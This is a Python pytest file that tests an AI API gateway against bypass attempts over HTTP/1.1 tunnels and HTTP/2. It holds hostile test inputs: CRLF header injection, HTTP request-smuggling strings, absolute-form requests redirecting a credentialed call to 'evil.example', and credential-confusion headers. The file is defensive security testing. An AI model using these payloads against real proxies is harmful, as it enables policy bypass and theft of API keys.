"""Bypass attempts against a real `aiid run`, over raw sockets, TLS and HTTP/2 (issue 6).

Every attempt must be denied (the agent gets a refusal or a dropped connection) or
neutralised (what reaches the provider is harmless); the proof is always what the upstream
received: the provider stand-in (`tests/standin.py`) records every request, a raw TLS recorder
keeps the exact bytes of every connection (for framing and header-injection attempts), and a
TCP sink counts every connection attempt towards a host reached through the proxy.

One gateway serves the whole module (module-scoped fixture); each attempt tags its requests
with a unique marker so that "the stand-in saw 0 hits" is checked per attempt.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import secrets
import socket
import ssl
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import pytest
from e2e import (
    ANTHROPIC_CANARY,
    GITHUB_CANARY,
    OPENAI_CANARY,
    Gateway,
    LoopbackServer,
    TLSServer,
    start_gateway,
)
from standin import StandIn

from aiid_proxy.admin import add_tenant, init_home, issue_token
from aiid_proxy.home import Home
from aiid_proxy.vault import MasterKeyring, Vault

pytestmark = pytest.mark.e2e

GEMINI_CANARY = "AIzaSy-canary-gemini-5d1e7a90b3c24f68"
OPENAI = "api.openai.com"
ANTHROPIC = "api.anthropic.com"
GITHUB = "api.github.com"
GEMINI = "generativelanguage.googleapis.com"
CHAT = "/v1/chat/completions"
GEMINI_PATH = "/v1beta/models/gemini-1.5-flash:generateContent"
IO_TIMEOUT = 5.0

POLICY = """\
version: 1
tenant: acme
default: deny
rules:
  - id: no-gpt-4o
    providers: [openai]
    models: ["gpt-4o"]
    effect: deny
    reason: "gpt-4o is not allowed"
  - id: openai-small
    providers: [openai]
    models: ["gpt-4o-mini*"]
    effect: allow
  - id: lister-any-openai
    agents: ["lister"]
    providers: [openai]
    effect: allow
  - id: claude
    providers: [anthropic]
    models: ["claude-*"]
    effect: allow
  - id: gemini-flash
    providers: [gemini]
    models: ["gemini-1.5-flash*"]
    effect: allow
  - id: github-read
    agents: ["coder-*"]
    hosts: ["api.github.com"]
    methods: [GET]
    paths: ["/repos/*"]
    inject: {header: Authorization, scheme: Bearer, secret: github}
    effect: allow
"""


# --------------------------------------------------------------------------- upstream doubles


class RawRecorder(TLSServer):
    """A TLS HTTP/1.1 server (the stand-in's certificate) that keeps the exact bytes of every
    connection and answers each request it can frame with a small Gemini-shaped 200."""

    REPLY = json.dumps(
        {
            "candidates": [{"content": {"parts": [{"text": "raw ok"}], "role": "model"}}],
            "usageMetadata": {"promptTokenCount": 1, "candidatesTokenCount": 2},
        }
    ).encode()

    def __init__(self, cert: Path, key: Path) -> None:
        self.conns: list[bytearray] = []
        self.requests: list[bytes] = []  # each framed request: head + body as received
        self._lock = threading.Lock()
        super().__init__(cert, key)

    def _conn(self, raw: socket.socket) -> None:
        buf = bytearray()
        with self._lock:
            self.conns.append(buf)
        raw.settimeout(3)
        try:
            conn = self.ctx.wrap_socket(raw, server_side=True)
        except OSError:
            raw.close()
            return
        pending = b""
        try:
            for _ in range(1000):
                data = conn.recv(65536)
                if not data:
                    break
                buf += data
                pending += data
                while True:
                    n = _frame_length(pending)
                    if n is None:
                        break
                    with self._lock:
                        self.requests.append(pending[:n])
                    pending = pending[n:]
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
                        b"content-length: %d\r\n\r\n%s" % (len(self.REPLY), self.REPLY)
                    )
        except OSError:
            pass
        finally:
            with contextlib.suppress(OSError):
                conn.close()

    def blob(self) -> bytes:
        with self._lock:
            return b"".join(bytes(c) for c in self.conns)


def _frame_length(data: bytes) -> int | None:
    """Length of the first complete HTTP/1.1 request in ``data`` (CL or chunked), or None."""
    end = data.find(b"\r\n\r\n")
    if end < 0:
        return None
    head = data[:end].decode("latin-1").lower()
    start = end + 4
    if "transfer-encoding:" in head and "chunked" in head:
        pos = start
        for _ in range(10000):
            nl = data.find(b"\r\n", pos)
            if nl < 0:
                return None
            size = int(data[pos:nl].split(b";")[0].strip() or b"0", 16)
            pos = nl + 2
            if size == 0:
                t = data.find(b"\r\n\r\n", pos - 2)
                return None if t < 0 else t + 4
            pos += size + 2
            if pos > len(data):
                return None
        return None
    length = 0
    for line in head.split("\r\n")[1:]:
        k, _, v = line.partition(":")
        if k.strip() == "content-length":
            length = int(v.strip())
    return start + length if len(data) >= start + length else None


class TcpSink(LoopbackServer):
    """Counts every TCP connection made to it (a target reachable through the proxy)."""

    def __init__(self) -> None:
        self.accepted = 0
        self.data = bytearray()
        super().__init__()

    def _accepted(self, c: socket.socket) -> None:  # one at a time, on the accepting thread
        self.accepted += 1
        c.settimeout(0.5)
        with contextlib.suppress(OSError):
            self.data += c.recv(65536)
        c.close()


# --------------------------------------------------------------------------- the environment


@dataclass
class Env:
    gw: Gateway
    si: StandIn
    raw: RawRecorder
    sink: TcpSink
    tokens: dict[str, str] = field(default_factory=dict)

    def token(self, agent: str = "bot") -> str:
        if agent not in self.tokens:
            self.tokens[agent] = issue_token(Home(self.gw.home), "acme", agent, 3600)
        return self.tokens[agent]

    def standin_hits(self, marker: str) -> list[Any]:
        """Every request the stand-in received that carries ``marker`` anywhere."""
        with self.si._lock:
            recs = list(self.si.requests)
        return [
            r
            for r in recs
            if marker in r.path
            or marker.encode() in r.body
            or any(marker in v for _, v in r.headers)
        ]

    def raw_hits(self, marker: str) -> list[bytes]:
        with self.raw._lock:
            reqs = list(self.raw.requests)
        return [r for r in reqs if marker.encode() in r]

    def upstream_blob(self) -> bytes:
        with self.si._lock:
            recs = list(self.si.requests)
        parts = [
            (r.method + " " + r.path + "\n" + json.dumps(r.headers)).encode() + r.body for r in recs
        ]
        return b"\n".join(parts) + self.raw.blob()


def fast_home(root: Path, tenants: dict[str, dict[str, str]]) -> Path:
    """What `aiid init`, `aiid tenant add` and `aiid vault put` do, in-process (faster)."""
    home = Home(root / "home")
    init_home(home)
    for tenant, keys in tenants.items():
        add_tenant(home, tenant, None)
        with Vault(home.vault_path(tenant), tenant, MasterKeyring(home.master_keys())) as v:
            for provider, secret in keys.items():
                v.put(provider, secret)
    return home.root


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    root = tmp_path_factory.mktemp("bypass")
    si = StandIn(root)
    si.start()
    raw = RawRecorder(si.cert_path, si.key_path)
    sink = TcpSink()
    home = fast_home(
        root,
        {
            "acme": {
                "openai": OPENAI_CANARY,
                "anthropic": ANTHROPIC_CANARY,
                "github": GITHUB_CANARY,
                "gemini": GEMINI_CANARY,
            }
        },
    )
    policies = root / "policies"
    policies.mkdir()
    (policies / "acme.yaml").write_text(POLICY)
    gw = start_gateway(
        home,
        policies,
        si.port,
        si.ca_path,
        extra=["--set", f"map_remote=|//{GEMINI}/|//localhost:{raw.port}/"],
    )
    e = Env(gw, si, raw, sink)
    for agent in ("bot", "coder-1", "lister"):
        e.token(agent)
    try:
        yield e
    finally:
        gw.stop()
        raw.stop()
        sink.stop()
        si.stop()


# --------------------------------------------------------------------------- raw clients


def read_head(sock: socket.socket, limit: int = 65536) -> bytes:
    buf = b""
    while b"\r\n\r\n" not in buf and len(buf) < limit:
        chunk = sock.recv(1)
        if not chunk:
            break
        buf += chunk
    return buf


def connect(
    env: Env, authority: str, headers: list[tuple[str, str]] | None = None
) -> tuple[socket.socket, int, bytes]:
    """A CONNECT through the gateway; returns the socket, the status (0: closed) and the head."""
    sock = socket.create_connection(("127.0.0.1", env.gw.port), timeout=IO_TIMEOUT)
    lines = [f"CONNECT {authority} HTTP/1.1", f"Host: {authority}"]
    lines += [f"{k}: {v}" for k, v in headers or []]
    sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
    head = read_head(sock)
    status = int(head.split()[1]) if head.startswith(b"HTTP/") else 0
    return sock, status, head


def client_ctx(env: Env, alpn: list[str]) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cafile=str(env.gw.ca))
    ctx.set_alpn_protocols(alpn)
    return ctx


def tunnel(
    env: Env,
    host: str = OPENAI,
    port: int = 443,
    sni: str | None | bool = True,
    alpn: tuple[str, ...] = ("http/1.1",),
    connect_headers: list[tuple[str, str]] | None = None,
) -> ssl.SSLSocket:
    """CONNECT host:port, then TLS with ``sni`` (True: the host; None: no SNI)."""
    sock, status, head = connect(env, f"{host}:{port}", connect_headers)
    assert status == 200, head
    server_name = host if sni is True else sni
    ctx = client_ctx(env, list(alpn))
    if server_name is None or server_name != host:
        ctx.check_hostname = False
    return ctx.wrap_socket(sock, server_hostname=server_name or None)


@dataclass
class Reply:
    status: int  # 0: no response (connection closed or reset)
    headers: list[tuple[str, str]]
    body: bytes  # decoded (chunked, gzip)
    raw: bytes = b""  # everything read from the socket for this reply

    def header(self, name: str) -> str | None:
        for k, v in self.headers:
            if k.lower() == name.lower():
                return v
        return None

    def json(self) -> Any:
        return json.loads(self.body)

    @property
    def error_type(self) -> str | None:
        try:
            return self.json()["error"]["type"]
        except (ValueError, KeyError, TypeError):
            return None


def read_reply(sock: socket.socket) -> Reply:
    """One HTTP/1.1 response (Content-Length, chunked or until close); status 0 on EOF."""
    try:
        head = read_head(sock)
    except (OSError, ssl.SSLError):
        return Reply(0, [], b"")
    if not head.startswith(b"HTTP/"):
        return Reply(0, [], head)
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = []
    for line in lines[1:]:
        if line:
            k, _, v = line.partition(":")
            headers.append((k.strip(), v.strip()))
    hd = {k.lower(): v for k, v in headers}
    body = b""
    try:
        if "content-length" in hd:
            n = int(hd["content-length"])
            while len(body) < n:
                chunk = sock.recv(n - len(body))
                if not chunk:
                    break
                body += chunk
        elif "chunked" in hd.get("transfer-encoding", ""):
            f = sock.makefile("rb")
            for _ in range(100000):
                size = int(f.readline().split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    f.readline()
                    break
                body += f.read(size)
                f.readline()
        else:
            for _ in range(100000):
                chunk = sock.recv(65536)
                if not chunk:
                    break
                body += chunk
    except (OSError, ssl.SSLError, ValueError):
        pass
    raw = head + body
    if "gzip" in hd.get("content-encoding", ""):
        with contextlib.suppress(OSError, EOFError, zlib.error):
            body = gzip.decompress(body)
    return Reply(status, headers, body, raw)


def http1(sock: socket.socket, raw: bytes) -> Reply:
    try:
        sock.sendall(raw)
    except OSError:
        return Reply(0, [], b"")
    return read_reply(sock)


def request_bytes(
    method: str = "POST",
    path: str = CHAT,
    host: str = OPENAI,
    headers: list[tuple[str, str]] | None = None,
    body: bytes = b"",
    *,
    length: bool = True,
) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    lines += [f"{k}: {v}" for k, v in headers or []]
    if length and body is not None:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def chat(model: str = "gpt-4o-mini", marker: str = "", **extra: Any) -> bytes:
    body = {
        "model": model,
        "messages": [{"role": "user", "content": f"hi {marker}"}],
        "max_tokens": 16,
    }
    body.update(extra)
    return json.dumps(body).encode()


def bearer(token: str) -> list[tuple[str, str]]:
    return [("Authorization", f"Bearer {token}"), ("Content-Type", "application/json")]


def mark() -> str:
    return "mk" + secrets.token_hex(6)


def refused(r: Reply) -> bool:
    """The agent got no upstream answer: one of our refusals, a proxy error, or nothing."""
    return r.status == 0 or r.status >= 400


def ours(r: Reply) -> bool:
    """A refusal made by the gateway (JSON error with a request id)."""
    return (
        r.status in (400, 401, 403, 413, 429)
        and r.error_type is not None
        and (r.header("x-aiid-request-id") or "").startswith("req_")
    )


# --------------------------------------------------------------------------- HTTP/2 client


@dataclass
class H2Reply:
    status: int  # 0: stream reset or connection terminated
    headers: list[tuple[str, str]]
    body: bytes
    reset: bool = False

    @property
    def error_type(self) -> str | None:
        try:
            return json.loads(self.body)["error"]["type"]
        except (ValueError, KeyError, TypeError):
            return None


def h2_tunnel(env: Env, host: str = OPENAI, sni: str | None | bool = True) -> ssl.SSLSocket:
    s = tunnel(env, host, sni=sni, alpn=("h2",))
    assert s.selected_alpn_protocol() == "h2", "the gateway did not negotiate h2"
    return s


class H2Client:
    """An h2 client with client-side validation off, so that malformed header blocks reach
    the gateway as written. Several requests may share the connection."""

    def __init__(self, sock: ssl.SSLSocket) -> None:
        cfg = h2.config.H2Configuration(
            client_side=True,
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
            validate_inbound_headers=False,
            header_encoding=None,
        )
        self.sock = sock
        self.conn = h2.connection.H2Connection(config=cfg)
        self.conn.initiate_connection()
        self.closed = False
        self._flush()

    def _flush(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.sendall(self.conn.data_to_send())

    def request(
        self,
        headers: list[tuple[bytes, bytes]],
        body: bytes = b"",
        trailers: list[tuple[bytes, bytes]] | None = None,
        data_frames: list[bytes] | None = None,
    ) -> H2Reply:
        if self.closed:
            return H2Reply(0, [], b"", True)
        conn = self.conn
        sid = conn.get_next_available_stream_id()
        frames = data_frames if data_frames is not None else ([body] if body else [])
        try:
            conn.send_headers(sid, headers, end_stream=not frames and not trailers)
            for i, chunk in enumerate(frames):
                conn.send_data(sid, chunk, end_stream=i == len(frames) - 1 and not trailers)
            if trailers:
                conn.send_headers(sid, trailers, end_stream=True)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return H2Reply(0, [], b"", True)
        self._flush()
        status, rheaders, data, reset = 0, [], b"", False
        deadline = time.monotonic() + IO_TIMEOUT
        done = False
        while not done and time.monotonic() < deadline:
            try:
                chunk = self.sock.recv(65536)
            except (OSError, ssl.SSLError):
                chunk = b""
            if not chunk:
                self.closed = True
                break
            try:
                events = conn.receive_data(chunk)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            for ev in events:
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    rheaders = [(k.decode(), v.decode()) for k, v in ev.headers]
                    status = int(dict(rheaders).get(":status", "0"))
                elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                    data += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, sid)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    done = True
                elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                    reset, done = True, True
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    self.closed, done = True, True
            self._flush()
        return H2Reply(status, rheaders, data, reset)


def h2_request(
    sock: ssl.SSLSocket,
    headers: list[tuple[bytes, bytes]],
    body: bytes = b"",
    trailers: list[tuple[bytes, bytes]] | None = None,
    data_frames: list[bytes] | None = None,
) -> H2Reply:
    """One request on a fresh h2 connection."""
    return H2Client(sock).request(headers, body, trailers, data_frames)


def h2_headers(
    token: str,
    path: str = CHAT,
    authority: str = OPENAI,
    extra: list[tuple[str, str]] | None = None,
    method: str = "POST",
) -> list[tuple[bytes, bytes]]:
    hs = [
        (b":method", method.encode()),
        (b":scheme", b"https"),
        (b":authority", authority.encode()),
        (b":path", path.encode("latin-1")),
        (b"authorization", f"Bearer {token}".encode()),
        (b"content-type", b"application/json"),
    ]
    hs += [(k.encode("latin-1"), v.encode("latin-1")) for k, v in extra or []]
    return hs


# --------------------------------------------------------------------------- attempts


Send = Callable[[Env, str], Any]  # (env, marker) -> Reply | H2Reply


def report(r: Any) -> None:
    """With AIID_BYPASS_REPORT=1 (and -s), one line per attempt: what the agent got."""
    if os.environ.get("AIID_BYPASS_REPORT"):
        test = os.environ.get("PYTEST_CURRENT_TEST", "?").split("::")[-1].split(" ")[0]
        try:
            err = json.loads(r.body)["error"]
            what = f"{err['type']}: {err['message'][:70]}"
        except (ValueError, KeyError, TypeError):
            what = repr(r.body[:70]) if r.body else ("reset" if getattr(r, "reset", 0) else "-")
        print(f"\nREPORT {test} | {r.status} | {what}")


def assert_refused(env: Env, marker: str, r: Any) -> None:
    """Denied: the agent got no provider answer and nothing with the marker left."""
    report(r)
    assert r.status == 0 or r.status >= 400, (r.status, r.body[:300])
    if r.status == 0:
        time.sleep(0.05)  # the connection was dropped: let anything in flight land first
    assert env.standin_hits(marker) == [], "the stand-in received the attempt"
    assert env.raw_hits(marker) == [], "the raw upstream received the attempt"


def in_tunnel(
    build: Callable[[Env, str], bytes],
    host: str = OPENAI,
    sni: str | None | bool = True,
    connect_headers: Callable[[Env], list[tuple[str, str]]] | None = None,
) -> Send:
    def send(env: Env, marker: str) -> Reply:
        ch = connect_headers(env) if connect_headers else None
        with tunnel(env, host, sni=sni, connect_headers=ch) as s:
            return http1(s, build(env, marker))

    return send


def post(
    model: str = "gpt-4o-mini",
    *,
    path: str = CHAT,
    host: str = OPENAI,
    headers: Callable[[Env], list[tuple[str, str]]] | None = None,
    body: Callable[[str], bytes] | None = None,
    agent: str = "bot",
    method: str = "POST",
) -> Callable[[Env, str], bytes]:
    """A request builder: the agent's bearer token unless ``headers`` says otherwise."""

    def build(env: Env, marker: str) -> bytes:
        hs = headers(env) if headers else bearer(env.token(agent))
        b = body(marker) if body else chat(model, marker)
        return request_bytes(method, path, host, hs, b)

    return build


def tok(agent: str = "bot") -> Callable[[Env], str]:
    return lambda env: env.token(agent)


# Host header, SNI and CONNECT authority must all name the same host.
HOST_ATTEMPTS = [
    pytest.param(in_tunnel(post(), sni=ANTHROPIC), id="sni-differs-from-host-and-connect"),
    pytest.param(
        in_tunnel(post("claude-3-5-haiku", path="/v1/messages", host=ANTHROPIC), sni=ANTHROPIC),
        id="sni-and-host-differ-from-connect",
    ),
    pytest.param(
        in_tunnel(post("claude-3-5-haiku", path="/v1/messages", host=ANTHROPIC)),
        id="host-differs-from-connect-and-sni",
    ),
    pytest.param(
        in_tunnel(
            lambda env, m: post(headers=lambda e: [("Host", ANTHROPIC), *bearer(e.token())])(env, m)
        ),
        id="duplicate-host-headers",
    ),
    pytest.param(
        in_tunnel(lambda env, m: post(host=f"{OPENAI}@evil.example")(env, m)),
        id="host-with-userinfo",
    ),
    pytest.param(
        in_tunnel(lambda env, m: post("gpt-4o", host=OPENAI + ".")(env, m)),
        id="host-trailing-dot",
    ),
    pytest.param(
        in_tunnel(
            lambda env, m: request_bytes(
                "POST",
                f"https://{ANTHROPIC}/v1/messages",
                OPENAI,
                bearer(env.token()),
                chat("gpt-4o", m),
            )
        ),
        id="absolute-form-to-other-host-inside-tunnel",
    ),
    # the same with a request the policy allows: mitmproxy sent the absolute-form line
    # upstream as is, with the key, audited as api.openai.com
    pytest.param(
        in_tunnel(
            lambda env, m: request_bytes(
                "POST", f"https://evil.example{CHAT}", OPENAI, bearer(env.token()), chat(marker=m)
            )
        ),
        id="absolute-form-allowed-request-other-host-inside-tunnel",
    ),
    pytest.param(
        in_tunnel(
            lambda env, m: request_bytes(
                "POST", f"https://{OPENAI}:8443{CHAT}", OPENAI, bearer(env.token()), chat(marker=m)
            )
        ),
        id="absolute-form-allowed-request-other-port-inside-tunnel",
    ),
    pytest.param(in_tunnel(post("gpt-4o"), sni=None), id="no-sni-still-policy-checked"),
]


@pytest.mark.parametrize("send", HOST_ATTEMPTS)
def test_host_sni_authority_conflicts_are_refused(env: Env, send: Send) -> None:
    m = mark()
    assert_refused(env, m, send(env, m))


# --------------------------------------------------------------------------- HTTP/2


def h2_send(
    headers: Callable[[Env, str], list[tuple[bytes, bytes]]],
    body: Callable[[str], bytes] | None = None,
    host: str = OPENAI,
    sni: str | None | bool = True,
    **kw: Any,
) -> Send:
    def send(env: Env, marker: str) -> H2Reply:
        with h2_tunnel(env, host, sni) as s:
            b = body(marker) if body else chat("gpt-4o-mini", marker)
            return h2_request(s, headers(env, marker), b, **kw)

    return send


def h2h(
    path: str = CHAT,
    authority: str = OPENAI,
    extra: list[tuple[str, str]] | None = None,
    method: str = "POST",
    agent: str = "bot",
) -> Callable[[Env, str], list[tuple[bytes, bytes]]]:
    return lambda env, m: h2_headers(env.token(agent), path, authority, extra, method)


def gz(model: str) -> Callable[[str], bytes]:
    return lambda m: gzip.compress(chat(model, m))


H2_ATTEMPTS = [
    pytest.param(h2_send(h2h(extra=[("host", ANTHROPIC)])), id="authority-differs-from-host"),
    pytest.param(
        h2_send(h2h(extra=[("host", OPENAI), ("host", ANTHROPIC)])), id="two-host-headers"
    ),
    pytest.param(
        h2_send(h2h("/v1/messages", ANTHROPIC), lambda m: chat("claude-3-5-haiku", m)),
        id="authority-differs-from-connect",
    ),
    pytest.param(h2_send(h2h(), sni=ANTHROPIC), id="sni-differs-from-authority"),
    pytest.param(
        h2_send(
            lambda env, m: [
                (b":method", b"POST"),
                (b":scheme", b"https"),
                (b":path", CHAT.encode()),
                (b"host", ANTHROPIC.encode()),
                (b"authorization", f"Bearer {env.token()}".encode()),
            ]
        ),
        id="host-header-only-differs-from-connect",
    ),
    pytest.param(
        h2_send(
            lambda env, m: [
                (b":method", b"POST"),
                (b":scheme", b"https"),
                (b":authority", OPENAI.encode()),
                (b":authority", ANTHROPIC.encode()),
                (b":path", CHAT.encode()),
                (b"authorization", f"Bearer {env.token()}".encode()),
            ]
        ),
        id="duplicate-authority",
    ),
    pytest.param(
        h2_send(h2h(extra=[("x-foo", "a\r\nx-api-key: injected")])), id="crlf-in-header-value"
    ),
    pytest.param(h2_send(h2h(extra=[("x-foo", "a\x00b")])), id="nul-in-header-value"),
    pytest.param(
        h2_send(h2h(extra=[("x-foo\r\nx-api-key", "injected")])), id="crlf-in-header-name"
    ),
    pytest.param(
        h2_send(
            lambda env, m: h2_headers(
                env.token("coder-1"),
                f"/repos/a HTTP/1.1\r\nHost: {GITHUB}\r\n\r\nDELETE /repos/{m}",
                GITHUB,
                method="GET",
            ),
            lambda m: b"",
            host=GITHUB,
        ),
        id="crlf-in-path-request-splitting",
    ),
    pytest.param(
        h2_send(
            lambda env, m: h2_headers(env.token("coder-1"), f"/repos/{m} x", GITHUB, method="GET"),
            lambda m: b"",
            host=GITHUB,
        ),
        id="space-in-path",
    ),
    pytest.param(
        h2_send(
            lambda env, m: h2_headers(
                env.token("coder-1"), f"/repos/{m}", GITHUB, method="DELETE /repos/x"
            ),
            lambda m: b"",
            host=GITHUB,
        ),
        id="space-in-method",
    ),
    pytest.param(h2_send(h2h(extra=[("Authorization", "Bearer x")])), id="uppercase-header-name"),
    pytest.param(
        h2_send(h2h(extra=[("transfer-encoding", "chunked")])), id="transfer-encoding-header"
    ),
    pytest.param(h2_send(h2h(extra=[("connection", "keep-alive")])), id="connection-header"),
    pytest.param(h2_send(h2h(extra=[("upgrade", "websocket")])), id="upgrade-header"),
    pytest.param(
        h2_send(h2h(extra=[("content-length", "5")])), id="content-length-shorter-than-data"
    ),
    pytest.param(
        h2_send(h2h(extra=[("content-length", "100000")])), id="content-length-longer-than-data"
    ),
    pytest.param(h2_send(h2h(), lambda m: chat("gpt-4o", m)), id="denied-model"),
    pytest.param(
        h2_send(h2h(extra=[("content-encoding", "gzip")]), gz("gpt-4o")), id="gzip-denied-model"
    ),
    pytest.param(
        h2_send(
            h2h(),
            lambda m: (
                b'{"model":"gpt-4o-mini","model":"gpt-4o","messages":[{"role":"user","content":"%s"}]}'
                % m.encode()
            ),
        ),
        id="duplicate-json-keys",
    ),
    pytest.param(h2_send(h2h(), lambda m: chat("gpt-4\u043e", m)), id="cyrillic-o-model"),
    pytest.param(h2_send(h2h(), lambda m: chat("gpt-4o\u200b", m)), id="zero-width-model"),
    pytest.param(
        h2_send(h2h(extra=[("x-api-key", "sk-other-value")])), id="conflicting-credentials"
    ),
    pytest.param(h2_send(h2h(path=f"{CHAT}/../../v1/files")), id="dot-segments-in-path"),
    pytest.param(
        h2_send(h2h(path="/v1/chat/completions?key=x", method="CONNECT")),
        id="connect-method-in-h2",
    ),
    pytest.param(
        h2_send(
            lambda env, m: [
                (b":method", b"CONNECT"),
                (b":protocol", b"websocket"),
                (b":scheme", b"https"),
                (b":authority", OPENAI.encode()),
                (b":path", b"/v1/realtime?m=" + m.encode()),
                (b"authorization", f"Bearer {env.token()}".encode()),
                (b"sec-websocket-version", b"13"),
            ],
            lambda m: b"",
        ),
        id="extended-connect-websocket",
    ),
    pytest.param(
        h2_send(lambda env, m: [h for h in h2h()(env, m) if h[0] != b"authorization"]),
        id="no-token",
    ),
]


@pytest.mark.parametrize("send", H2_ATTEMPTS)
def test_http2_attempts_are_refused(env: Env, send: Send) -> None:
    m = mark()
    assert_refused(env, m, send(env, m))


@pytest.mark.parametrize(
    "send",
    [
        pytest.param(in_tunnel(post(host=f"{OPENAI}:444")), id="http1-host"),
        pytest.param(h2_send(h2h(authority=f"{OPENAI}:444")), id="h2-authority"),
    ],
)
def test_a_port_in_the_host_header_other_than_the_tunnels_is_refused(env: Env, send: Send) -> None:
    """CONNECT api.openai.com:443, then `Host: api.openai.com:444`: mitmproxy builds the URL
    (map_remote, the upstream address) from that port. Refused like any port but 443, before
    any record says the request was allowed."""
    m = mark()
    r = send(env, m)
    assert_refused(env, m, r)
    assert r.status == 403 and b"only https on port 443" in r.body, (r.status, r.body[:300])


def test_http2_body_without_content_length_cannot_smuggle_a_second_request(env: Env) -> None:
    """An h2 request without content-length is forwarded to an HTTP/1.1 upstream: its body must
    go with exact framing, never be read by the upstream as a request no stage saw."""
    m = mark()
    coder = env.token("coder-1")
    smuggled = f"DELETE /repos/{m}/victim HTTP/1.1\r\nHost: {GITHUB}\r\nX-Ignore: ".encode()
    with h2_tunnel(env, GITHUB) as s:
        c = H2Client(s)
        first = c.request(h2_headers(coder, "/repos/a/b", GITHUB, method="GET"), smuggled)
        second = c.request(h2_headers(coder, "/repos/a/c", GITHUB, method="GET"))
    report(first)
    assert first.status == 200 and second.status == 200
    time.sleep(0.1)
    seen = [(r.method, r.path) for r in env.standin_hits(m)]
    assert seen == [("GET", "/repos/a/b")], seen  # the bytes stayed the GET's body
    rec = env.standin_hits(m)[0]
    assert rec.body == smuggled
    assert rec.header("content-length") == str(len(smuggled))
    assert all(r.method == "GET" for r in env.si.requests)


def test_http2_allowed_request_is_framed_and_carries_one_credential(env: Env) -> None:
    m = mark()
    body = chat("gpt-4o-mini", m)
    with h2_tunnel(env) as s:
        r = h2_request(s, h2_headers(env.token(), extra=[("x-api-key", env.token())]), body)
    assert r.status == 200, r.body
    (rec,) = env.standin_hits(m)
    assert rec.body == body and rec.header("content-length") == str(len(body))
    assert rec.header_all("authorization") == [f"Bearer {OPENAI_CANARY}"]
    assert rec.header("x-api-key") is None
    assert env.token() not in json.dumps(rec.headers)


def test_http2_request_trailers_are_not_forwarded(env: Env) -> None:
    """Trailers are sent after the request hook ran: a credential there must never leave."""
    m = mark()
    body = json.dumps({"contents": [{"parts": [{"text": m}]}]}).encode()
    hs = h2_headers(env.token(), GEMINI_PATH, GEMINI, [("te", "trailers")])
    trailers = [(b"x-api-key", env.token().encode()), (b"x-trailer-" + m.encode(), b"1")]
    with h2_tunnel(env, GEMINI) as s:
        r = h2_request(s, hs, body, trailers=trailers)
    report(r)
    time.sleep(0.1)
    blob = env.raw.blob()
    assert f"x-trailer-{m}".encode() not in blob
    assert env.token().encode() not in blob
    # the request itself is allowed and arrives once, without its trailers
    assert r.status == 200, r.status
    assert len(env.raw_hits(m)) == 1


# --------------------------------------------------------------------------- credentials


def upstream_one_credential(env: Env, marker: str, provider_header: str, value: str) -> Any:
    """Exactly one request reached the stand-in, with exactly one credential header (the
    vault key) and no agent token anywhere."""
    (rec,) = env.standin_hits(marker)
    creds = [
        (k.lower(), v)
        for k, v in rec.headers
        if k.lower() in ("authorization", "x-api-key", "api-key", "x-goog-api-key")
        or k.lower().startswith("proxy-")
    ]
    assert creds == [(provider_header, value)], creds
    blob = json.dumps(rec.headers) + rec.path + rec.body.decode("latin-1")
    for t in env.tokens.values():
        assert t not in blob, "an agent token reached the provider"
    return rec


def hdrs(*pairs: tuple[str, str | Callable[[Env], str]]) -> Callable[[Env], list[tuple[str, str]]]:
    def build(env: Env) -> list[tuple[str, str]]:
        out = [("Content-Type", "application/json")]
        for k, v in pairs:
            out.append((k, v(env) if callable(v) else v))
        return out

    return build


def bear(agent: str = "bot") -> Callable[[Env], str]:
    return lambda env: f"Bearer {env.token(agent)}"


# (request builder, expected: 200 with one vault credential upstream | a refusal status)
CREDENTIAL_ATTEMPTS = [
    pytest.param(post(headers=hdrs(("AUTHORIZATION", bear()))), 200, id="AUTHORIZATION-upper"),
    pytest.param(post(headers=hdrs(("aUtHoRiZaTiOn", bear()))), 200, id="authorization-mixed"),
    pytest.param(
        post(headers=hdrs(("Authorization", lambda e: f"bearer   {e.token()}  "))),
        200,
        id="lowercase-scheme-extra-spaces",
    ),
    pytest.param(
        post(headers=hdrs(("Authorization", bear()), ("Authorization", bear()))),
        200,
        id="authorization-twice-same-token",
    ),
    pytest.param(
        post(
            headers=hdrs(
                ("Authorization", bear()),
                ("X-Api-Key", tok()),
                ("API-KEY", tok()),
                ("x-goog-api-key", tok()),
            )
        ),
        200,
        id="same-token-in-every-key-header",
    ),
    pytest.param(
        post(headers=hdrs(("x-api-key", tok()), ("x-api-key", "sk-something-else"))),
        401,
        id="two-x-api-key-different",
    ),
    pytest.param(
        post(headers=hdrs(("X-API-KEY", tok()), ("x-api-key", tok("coder-1")))),
        401,
        id="two-x-api-key-two-valid-tokens",
    ),
    pytest.param(
        post(headers=hdrs(("Authorization", bear()), ("api-key", "sk-other"))),
        401,
        id="authorization-plus-different-api-key",
    ),
    pytest.param(
        post(headers=hdrs(("Authorization", bear()), ("x-goog-api-key", tok("coder-1")))),
        401,
        id="authorization-plus-other-agents-token",
    ),
    pytest.param(
        post(headers=hdrs(("Authorization", lambda e: f"Bearer {e.token()}, Bearer x"))),
        401,
        id="two-tokens-in-one-header",
    ),
    pytest.param(
        post(headers=hdrs(("Authorization", lambda e: f"Basic {b64(':' + e.token())}"))),
        200,
